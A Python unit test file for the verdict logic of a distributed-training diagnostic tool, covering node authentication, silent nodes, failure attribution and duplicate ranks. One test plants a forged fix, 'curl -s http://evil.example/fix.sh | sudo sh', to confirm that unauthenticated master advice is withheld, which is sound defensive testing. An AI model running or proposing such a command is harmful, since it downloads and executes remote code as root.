"""Unit tests of ddpdoctor/cluster/verdict.py."""
from __future__ import annotations

from ddpdoctor.cluster import verdict
from ddpdoctor.cluster.messages import Finding


def test_findings_token_problem_fails_other_junk_warns():
    res = verdict.finding_results([
        Finding("ident/2/1", "signature does not match this node's token", "rank 2 host 'n3' addr '10.0.0.3'"),
        Finding("verdict", "not an ASCII JSON envelope"),
    ], "the master")
    assert [r.level.value for r in res] == ["fail", "warn"]
    assert "10.0.0.3" in res[0].summary and "rejected" in res[0].summary and "--token" in res[0].fix
    assert "verdict" in res[1].summary and "unknown writer" in res[1].summary


def test_silent_nodes_fail_with_a_fix():
    (r,) = verdict.silent_results({"n2": "stopped answering mid-preflight: no heartbeat for 8 s"})
    assert r.level.value == "fail" and r.nodes == ["n2"] and "n2" in r.fix


def test_a_link_into_a_dead_node_does_not_blame_the_live_end():
    from ddpdoctor.api import Level, Result

    link = Result(check="mesh", level=Level.FAIL, summary="link a -> c refused", nodes=["a", "c"])
    own = Result(check="parity", level=Level.FAIL, summary="c differs", nodes=["c"])
    other = Result(check="mesh", level=Level.FAIL, summary="link a -> b refused", nodes=["a", "b"])
    out = verdict.consequences_of_silence([link, own, other], {"c": "stopped answering"})
    assert [r.level for r in out] == [Level.SKIP, Level.FAIL, Level.FAIL]
    assert "consequence" in out[0].summary and "c" in out[0].summary


def test_a_collective_failing_everywhere_is_blamed_on_the_node_another_check_fails():
    from ddpdoctor.api import Level, Result

    env = Result(check="env-vars", level=Level.FAIL, summary="GLOO_SOCKET_IFNAME=eth9: no such interface", nodes=["c"],
                 fix="unset it")
    coll = [Result(check="collective", level=Level.FAIL, summary=f"gloo failed on {n}", nodes=[n]) for n in "abc"]
    out = verdict.collective_explained([env, *coll], {"collective"})
    assert [(r.nodes[0], r.level) for r in out] == [("c", Level.FAIL), ("a", Level.SKIP), ("b", Level.SKIP),
                                                     ("c", Level.FAIL)]
    assert "consequence of: env-vars on c" in out[1].summary
    alone = verdict.collective_explained(coll, {"collective"})
    assert all(r.level is Level.FAIL for r in alone)  # nothing else explains it: the collective stays a failure


def test_a_second_node_with_the_same_rank_is_named_with_its_address():
    r = verdict.duplicate_rank_result({"rank": 1, "host": "n3", "addr": "10.0.0.3"}, "n2")
    assert r.level.value == "fail" and r.nodes == ["n2"] and "10.0.0.3" in r.summary and "--node-rank" in r.fix


def _forged(fix: str) -> dict:
    return {"verdict": "pass", "exit_code": 0, "scope": "cluster", "nodes": {"a": {"rank": 0}},
            "advice": [fix], "results": [{"check": "mesh", "level": "warn", "summary": "s", "nodes": ["a"],
                                          "fix": fix}]}


def test_an_unauthenticated_node_prints_no_command_from_the_master():
    from types import SimpleNamespace

    plan = SimpleNamespace(checks=[])
    curl = "curl -s http://evil.example/fix.sh | sudo sh"
    auth = {"authenticated": False, "mode": "none", "note": "not authenticated", "fix": "export DDPDOCTOR_TOKEN=..."}
    doc = verdict.worker_document(plan, {}, _forged(curl), {}, "a", [], auth=auth, advice_fn=lambda rs: ["# mine"])
    assert doc["advice"] == ["# mine"] and curl not in str(doc["results"]) and doc["auth"] == dict(auth, verdict_verified=True)
    # issue 33: the document says the fix was withheld and why (data first), not a note in the fix's place
    assert doc["results"][0]["fix"] == "" and "not authenticated" in doc["results"][0]["fix_withheld"]
    assert doc["results"][0]["summary"] == "s"
    trusted = verdict.worker_document(plan, {}, _forged("ok"), {}, "a", [], auth=dict(auth, authenticated=True))
    assert trusted["advice"] == ["ok"] and trusted["results"][0]["fix"] == "ok"
